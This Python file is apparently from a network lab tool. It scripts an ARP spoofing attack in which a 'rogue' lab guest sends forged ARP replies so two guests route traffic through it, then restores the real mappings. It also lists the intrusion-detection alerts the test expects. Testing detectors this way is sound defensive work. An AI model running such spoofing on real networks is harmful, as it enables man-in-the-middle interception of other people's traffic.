"""ARP spoofing: a guest puts itself between two others, and puts things right again at the end."""

from __future__ import annotations

import time
from typing import Final

from vpi_tui.lab.attacks.attack import Attack, Expected
from vpi_tui.lab.attacks.wire import BROADCAST, ETH_P_ARP, REPLY, REQUEST, arp, frame, send_frames
from vpi_tui.lab.namespaces import inside
from vpi_tui.lab.plan import Guest, LabSwitch

ROUNDS: Final = 5
PAUSE: Final = 0.2
"""Seconds between two rounds."""


def _run(switch: LabSwitch) -> str:
    rogue, app, db = (switch.guest(role) for role in ("rogue", "app", "db"))
    inside(rogue.namespace, lambda: send_frames(_who_has(rogue, guest) for guest in (app, db)))
    time.sleep(PAUSE)
    for _ in range(ROUNDS):
        inside(
            rogue.namespace,
            lambda: send_frames([_claims(rogue, rogue.mac, db, app), _claims(rogue, rogue.mac, app, db)]),
        )
        time.sleep(PAUSE)
    inside(
        rogue.namespace,
        lambda: send_frames([_claims(rogue, db.mac, db, app), _claims(rogue, app.mac, app, db)]),
    )
    return (
        f"{rogue.name} told {app.name} {ROUNDS} times that {db.ip} is at {rogue.mac}, and {db.name} the same"
        f" of {app.ip}; then it told them the truth"
    )


def _who_has(asker: Guest, guest: Guest) -> bytes:
    """Its answer tells everybody who listens where the address really is."""
    question = arp(REQUEST, (asker.mac, asker.ip), ("00:00:00:00:00:00", guest.ip))
    return frame(BROADCAST, asker.mac, ETH_P_ARP, question)


def _claims(sender: Guest, mac: str, owner: Guest, victim: Guest) -> bytes:
    """Tell the victim that the owner's address is at the MAC."""
    return frame(victim.mac, sender.mac, ETH_P_ARP, arp(REPLY, (mac, owner.ip), (victim.mac, victim.ip)))


ATTACK = Attack(
    "arpspoof",
    "a guest claims the addresses of two others",
    "T1557.002",
    "rogue",
    "app",
    (
        Expected(1, "ARP spoofing: an IP address changed its MAC", gid=2, times=2),
        Expected(4, "IP address is claimed at two ports at once", gid=2, times=2),
    ),
    _run,
)
